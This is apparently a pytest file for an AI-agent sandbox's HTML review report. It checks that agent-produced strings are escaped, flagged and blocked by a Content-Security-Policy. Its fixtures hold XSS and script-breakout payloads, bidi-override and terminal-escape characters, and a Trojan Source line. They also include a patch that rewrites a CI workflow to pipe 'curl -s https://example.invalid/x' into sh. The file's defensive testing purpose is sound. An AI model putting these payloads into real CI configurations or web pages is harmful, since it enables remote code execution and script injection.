"""The review report's data and HTML, from hand-made run folders: hostile strings everywhere, partial runs.

Every string a run holds is the agent's, so each one here carries markup, a script end tag, a bidi
override or a terminal escape. The report must show them all as text, and stay whole when files are
missing, torn or malformed.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from orchestrator.errors import UsageError
from orchestrator.review.data import load_collection, load_run
from orchestrator.review.report_html import render_report, write_report

XSS = "<img src=x onerror=alert(1)>"
END = "</script><script>alert(2)</script>"
RLO = "\u202e"
ESC = "\x1b[2J\x1b[31m"

# A patch with a hostile name (git-quoted: bidi override in octal, markup as is) and Trojan-Source content.
HOSTILE_PATCH = (
    b'diff --git "a/x\\342\\200\\256<img src=y onerror=alert(3)>.sh" "b/x\\342\\200\\256<img src=y onerror=alert(3)>.sh"\n'
    b"new file mode 100755\n"
    b"index 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391\n"
    b"--- /dev/null\n"
    b'+++ "b/x\\342\\200\\256<img src=y onerror=alert(3)>.sh"\n'
    b"@@ -0,0 +1,3 @@\n"
    b"+</script><script>alert(4)</script>\n"
    b"+if is_admin: \xe2\x80\xae pass  # trojan source\n"
    b"+bad byte \xff here\n"
    b"diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
    b"index 1111111111111111111111111111111111111111..2222222222222222222222222222222222222222 100644\n"
    b"--- a/.github/workflows/ci.yml\n"
    b"+++ b/.github/workflows/ci.yml\n"
    b"@@ -1,2 +1,2 @@\n"
    b" on: push\n"
    b"-run: make test\n"
    b"+run: curl -s https://example.invalid/x | sh\n"
)
HOSTILE_NAME = "x\u202e<img src=y onerror=alert(3)>.sh"
LISTED = [
    {"kind": "added", "old_path": None, "new_path": "x\\u202e<img src=y onerror=alert(3)>.sh", "insertions": 3, "deletions": 0},
    {"kind": "modified", "old_path": ".github/workflows/ci.yml", "new_path": ".github/workflows/ci.yml", "insertions": 1, "deletions": 1},
]


def write_run(folder: Path, *, record: dict | None = None, events: list[dict] | None = None, patch: bytes | None = HOSTILE_PATCH) -> Path:
    folder.mkdir(parents=True)
    base = {
        "run_id": "r1", "status": "verify_failed", "repo": f"/repo/{XSS}", "task": f"Fix it {XSS} {END} {RLO}", "model": "<b>model</b>",
        "started_at": "2026-01-01T00:00:00+00:00", "duration_s": 12.5, "steps": 2, "tool_calls": 1,
        "usage": {"input_tokens": 100, "output_tokens": 20, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0},
        "cost_usd": 0.01, "error": f"boom {XSS}",
        "patch": {"files_changed": 2, "insertions": 4, "deletions": 1, "changes": LISTED, "refused": [{"path": f"evil{XSS}", "reason": "writes inside .git"}], "exported": True},
        "verify": {"command": f"pytest {END}", "exit_code": 1, "passed": False, "output_tail": f"FAILED {XSS}\n{ESC}done", "skipped": None},
        "policy_events": [{"rule": "commands.deny", "detail": f"refused {XSS}", "t": 1.0}],
    }  # fmt: skip
    (folder / "run.json").write_text(json.dumps({**base, **(record or {})}))
    default_events = [
        {"type": "run_start", "t": 0, "version": 1, "run_id": "r1", "model": "m", "task": "t"},
        {"type": "model_response", "t": 1.0, "step": 1, "duration_s": 0.5, "response": {"content": [
            {"type": "text", "text": f"Plan {XSS} {RLO}evil"}, {"type": "tool_use", "id": "t1", "name": "run_bash", "input": {"command": f"echo {END}"}}],
            "stop_reason": "tool_use", "usage": {"output_tokens": 9}}},
        {"type": "tool_call", "t": 1.2, "step": 1, "id": "t1", "name": f"run_bash{XSS}", "input": {"command": f"echo {END}"},
         "output": f"{END}\n{ESC}\n" + "\n".join(f"line {i}" for i in range(40)), "is_error": False, "meta": {"exit_code": 0}, "duration_s": 0.1},
        {"type": "model_response", "t": 2.0, "step": 2, "duration_s": 0.4, "response": {"content": [{"type": "text", "text": f"Done {END}"}], "stop_reason": "end_turn"}},
        {"type": "run_end", "t": 2.5, "status": "verify_failed", "error": f"err {XSS}"},
    ]  # fmt: skip
    (folder / "trajectory.jsonl").write_text("".join(json.dumps(e) + "\n" for e in (default_events if events is None else events)))
    if patch is not None:
        (folder / "patch.diff").write_bytes(patch)
    return folder


class Elements(HTMLParser):
    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[str] = []
        self.raw_script = ""
        self._in_script = False
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag in ("script", "style")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if not self._in_script:
            self.data.append(data)

    @property
    def text(self) -> str:
        return "".join(self.data)


def test_hostile_strings_render_as_text(tmp_path: Path) -> None:
    run = write_run(tmp_path / "results" / "evil")
    page = render_report(load_collection(run.parent), tmp_path / "results" / "report.html")
    dom = Elements(page)
    tags = [t for t, _ in dom.tags]
    assert tags.count("script") == 1 and "img" not in tags and "b" in tags  # our own <b>s only (see below)
    assert all(not (name.startswith("on")) for _, attrs in dom.tags for name in attrs), "an event handler attribute got through"
    assert not [attrs for t, attrs in dom.tags if t == "b" and "model" in json.dumps(attrs)]
    assert "<b>model</b>" in dom.text
    for needle in (XSS, END, "Fix it", "boom", "pytest </script>", "run_bash<img", "curl -s https://example.invalid/x | sh", "alert(4)"):
        assert needle in dom.text, needle
    # Hidden characters never reach the page as themselves: each is a visible, flagged escape.
    assert RLO not in page and "\x1b" not in page
    escapes = re.findall(r'<span class="esc" title="([^"]*)">([^<]*)</span>', page)
    assert ("U+202E RIGHT-TO-LEFT OVERRIDE", "\\u202e") in escapes
    assert ("U+001B ESCAPE", "\\x1b") in escapes
    assert ("byte 0xFF", "\\xff") in escapes
    # The flags: spoofing name, Trojan Source line, CI file, exec bit, refused change.
    for message in (
        "bidirectional controls",
        "added lines contain bidirectional controls",
        "CI configuration",
        "new executable file",
        "refused from the patch",
    ):
        assert message in dom.text, message
    assert "patch.diff does not match" not in dom.text  # run.json lists exactly these changes


def test_csp_forbids_network_and_allows_only_the_report_s_own_code(tmp_path: Path) -> None:
    run = write_run(tmp_path / "run")
    report = write_report(load_collection(run))
    page = report.read_text(encoding="utf-8")
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert csp and page.index(csp.group(0)) < page.index("<style>")  # before anything it governs
    policy = dict(part.strip().split(" ", 1) for part in csp.group(1).split(";"))
    assert policy["default-src"] == "'none'" and policy["img-src"] == "data:"
    script = re.search(r"<script>(.*?)</script>", page, re.DOTALL).group(1)
    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL).group(1)
    for source, directive in ((script, "script-src"), (style, "style-src")):
        digest = base64.b64encode(hashlib.sha256(source.encode()).digest()).decode()
        assert policy[directive] == f"'sha256-{digest}'"  # no 'unsafe-inline': injected code could not run
    assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//""", page)
    assert " style=" not in page  # no inline style attributes (the CSP would block them)


def test_partial_and_broken_run_folders_still_render(tmp_path: Path) -> None:
    results = tmp_path / "results"
    torn = [{"type": "run_start", "t": 0, "version": 1, "run_id": "r2", "model": "m", "task": "from the trajectory"}]
    lines = json.dumps(torn[0]) + "\n" + '{"type": "model_response", "t": 1.0, "step": 1, "respo'
    folder = results / "killed"
    folder.mkdir(parents=True)
    (folder / "trajectory.jsonl").write_text(lines)
    write_run(results / "running", record={"status": "running", "steps": "many", "usage": "lots"}, patch=None)
    write_run(results / "tampered", patch=HOSTILE_PATCH[: HOSTILE_PATCH.index(b"diff --git a/.github")])  # the CI change went missing
    garbage = HOSTILE_PATCH + b"diff --git a/z b/z\nthis is not a diff line\n"
    write_run(results / "garbage", patch=garbage)
    (results / "not-a-run").mkdir()
    (results / ".cache").mkdir()  # a batch's clone cache is not a run
    (results / ".cache" / "patch.diff").write_text("")
    summary = {"tasks": [{"id": "tampered"}, {"id": "running"}, {"id": "never", "status": "not_started", "error": f"budget {XSS}"}], "exit_code": 1}
    (results / "summary.json").write_text(json.dumps(summary))

    collection = load_collection(results)
    assert [run.name for run in collection.runs] == ["tampered", "running", "garbage", "killed"]  # summary order, then by name
    killed, running = collection.runs[3], collection.runs[1]
    assert killed.summary.task == "from the trajectory" and killed.summary.run_id == "r2"
    assert "run.json is missing" in killed.problems and "patch.diff is missing" in killed.problems
    assert killed.trajectory.torn_last_line and not killed.trajectory.ended
    assert {f.code for f in killed.flags} >= {"partial", "trajectory"}
    assert running.summary.steps == 0 and running.summary.task.startswith("Fix it")  # bad fields dropped, the rest kept
    assert any("steps" in p and "usage" in p for p in running.problems)
    assert "mismatch" in {f.code for f in collection.runs[0].flags}
    garbage_run = collection.runs[2]
    assert [d.kind for d in garbage_run.diffs] == ["added", "modified", "unparseable"]
    assert "unparseable" in {f.code for f in garbage_run.all_flags}

    page = render_report(collection, results / "report.html")
    dom = Elements(page)
    assert "this is not a diff line" in dom.text and "did not finish" in dom.text and "patch.diff does not match" in dom.text
    assert "exit_code" in dom.text  # summary.json's own fields are shown
    assert [n.name for n in collection.not_run] == ["never"] and f"budget {XSS}" in dom.text and "not started" in dom.text


def test_big_diffs_are_capped(tmp_path: Path) -> None:
    lines = b"".join(b"+line %d\n" % i for i in range(5000))
    patch = (
        b"diff --git a/big.txt b/big.txt\nnew file mode 100644\n"
        b"index 0000000000000000000000000000000000000000..1234567890123456789012345678901234567890\n"
        b"--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,5000 @@\n" + lines
    )
    run = load_run(write_run(tmp_path / "big", record={"patch": {"exported": False}}, patch=patch))
    [diff] = run.diffs
    assert diff.insertions == 5000 and len(diff.lines) < 1000 and diff.hidden_lines == 5001 - len(diff.lines)
    page = render_report(load_collection(run.folder), tmp_path / "big" / "report.html")
    assert f"{diff.hidden_lines:,} more lines not shown here: see patch.diff" in page


def test_no_runs_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no runs in"):
        load_collection(tmp_path)
    with pytest.raises(UsageError, match="is not a folder"):
        load_collection(tmp_path / "missing")


def _cards(page: str) -> dict[str, str]:
    """The index's summary cards, label -> value."""
    return {html_unescape(k): html_unescape(v) for v, k in re.findall(r'<div class="v">(.*?)</div><div class="k">(.*?)</div>', page)}


def html_unescape(text: str) -> str:
    import html

    return html.unescape(re.sub(r"<[^>]+>", "", text))


def test_a_total_with_unknown_costs_is_unknown_and_self_hosted_runs_show_their_served_model(tmp_path: Path) -> None:
    batch = tmp_path / "batch"
    write_run(batch / "claude", record={"status": "completed", "cost_usd": 0.0, "verify": None})
    for n in range(3):
        write_run(batch / f"local-{n}", record={"status": "stuck", "cost_usd": None, "model": "qwen", "served_model": "qwen2.5-coder-1.5b-q4_k_m.gguf"})
    page = render_report(load_collection(batch), batch / "report.html")
    cards = _cards(page)
    assert cards["cost: 3 of 4 unknown, $0.0000 known"] == "unknown"  # never "$0.0000" for the total
    assert cards["succeeded"] == "1" and cards["did not succeed"] == "3"
    assert 'class="pill st-warn" title="stuck"' in page
    assert "qwen (served: qwen2.5-coder-1.5b-q4_k_m.gguf)" in html_unescape(page)


def test_a_passing_verify_counts_as_success_whatever_stopped_the_agent(tmp_path: Path) -> None:
    verify = {"command": "pytest", "exit_code": 0, "passed": True, "output_tail": "", "skipped": None}
    run = write_run(tmp_path / "run", record={"status": "max_steps", "verify": verify, "cost_usd": 0.5})
    cards = _cards(render_report(load_collection(run), run / "report.html"))
    assert cards["succeeded"] == "1" and cards["cost"] == "$0.5000"


def test_the_setup_phase_is_shown_to_reviewers(tmp_path: Path) -> None:
    from rich.console import Console

    from orchestrator.review.show import load_single_run, render_run

    setup = {
        "commands": ["python3 -m venv --system-site-packages /opt/airlock-env/venv", f"pip install -r requirements.txt {XSS}"],
        "detected": ["python: requirements.txt installed"], "ecosystems": ["python"], "image": "airlock-env:abc", "cache": "build",
        "duration_s": 17.3, "exit_code": 0, "hosts": [{"host": "pypi.org", "allowed": True, "requests": 3, "bytes": 20480},
        {"host": f"evil{XSS}.org", "allowed": False, "requests": 1, "bytes": 10}], "refused": [f"evil{XSS}.org"], "modified": ["README"],
    }  # fmt: skip
    folder = write_run(tmp_path / "run", record={"setup": setup})
    console = Console(record=True, width=200)
    render_run(load_single_run(folder), console)
    shown = console.export_text()
    assert "setup  built environment airlock-env:abc in 17.3 s · python" in shown
    assert "egress allowed: pypi.org (3 requests, 20 KiB)" in shown and f"egress REFUSED: evil{XSS}.org" in shown
    assert "setup changed repo files (the agent got the originals): README" in shown
    html = render_report(load_collection(folder), tmp_path / "report.html")
    text = Elements(html).text
    assert "built environment airlock-env:abc in 17.3 s" in text and f"$ pip install -r requirements.txt {XSS}" in text
    assert XSS not in html  # shown as text, never as markup

    hit = write_run(tmp_path / "hit", record={"setup": {**setup, "cache": "hit", "hosts": [], "modified": []}})
    console = Console(record=True, width=200)
    render_run(load_single_run(hit), console)
    assert "from the cache: no setup ran, no network" in console.export_text()


def test_multi_line_commands_keep_their_line_breaks_and_escape_the_rest(tmp_path: Path) -> None:
    command = "cd src &&\n  python -m pytest -q\n\x1b]0;title\x07"
    events = [
        {"type": "model_response", "t": 1.0, "step": 1, "message": {"role": "assistant", "content": []}, "stop_reason": "tool_use"},
        {"type": "tool_call", "t": 1.2, "step": 1, "id": "t1", "name": "run_bash", "input": {"command": command}, "output": "ok", "is_error": False, "meta": {"exit_code": 0}},
    ]  # fmt: skip
    run = write_run(tmp_path / "results" / "multi", events=events)
    page = render_report(load_collection(run.parent), tmp_path / "results" / "report.html")
    block = re.search(r'<pre class="cmd">(.*?)</pre>', page, re.S)
    assert block is not None
    assert block.group(1).startswith("cd src &amp;&amp;\n  python -m pytest -q\n")  # ordinary newlines, shown as such
    assert "\\n</span>" not in block.group(1) and "\\x1b</span>" in block.group(1) and "\\x07</span>" in block.group(1)


def test_a_single_run_is_titled_by_its_task_and_says_what_was_hidden(tmp_path: Path) -> None:
    snapshot = {"files": 3, "bytes": 10, "hidden": [".env", "tests/certs/ca.pem", "tests/certs/ca.key", "deploy.pem"], "history": {"hidden_paths": 2}}
    run = write_run(tmp_path / "out", record={"task": "Fix the flaky login test\nIt fails on CI.", "snapshot": snapshot})
    page = render_report(load_collection(run), tmp_path / "report.html")
    dom = Elements(page)
    assert "<title>airlock review · Fix the flaky login test</title>" in page
    assert "<h2>Fix the flaky login test</h2>" in page and "<h2>out</h2>" not in page
    note = "hidden by policy: 4 paths not copied into the sandbox, e.g. .env, tests/certs/ca.pem, tests/certs/ca.key, …; 2 removed from its git history"
    assert note in dom.text
    batch = write_run(tmp_path / "results" / "task-7", record={"task": "Fix the flaky login test"})
    assert "<h2>task-7</h2>" in render_report(load_collection(batch.parent), tmp_path / "results" / "report.html")  # a batch's task id
